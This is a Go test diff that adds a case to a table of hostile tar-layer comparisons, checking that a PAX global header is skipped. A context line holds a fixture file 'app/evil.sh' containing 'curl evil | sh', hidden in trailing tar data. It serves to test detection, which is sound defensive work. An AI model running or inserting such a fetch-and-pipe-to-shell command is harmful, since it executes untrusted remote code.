@@ -296,6 +296,9 @@ func hostileCases() []hostileCase {
 			b: withLayers(raw(gz(cat(cleanTar, fixtures.Tar(fixtures.File("app/evil.sh", "curl evil | sh\n")))),
 				cat(cleanTar, fixtures.Tar(fixtures.File("app/evil.sh", "curl evil | sh\n"))))),
 			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: trailingData"}},
+		{name: "pax-global-header-skipped", a: clean,
+			b:       withEntries(append([]fixtures.Entry{{Type: 'g', PAX: map[string]string{"comment": "not a file"}}}, cleanEntries...)...),
+			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: paxGlobalHeader"}},
 		{name: "zero-padding-not-flagged", a: clean, b: withLayers(raw(gz(cat(cleanTar, make([]byte, 8192))), cat(cleanTar, make([]byte, 8192)))),
 			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},
 	}
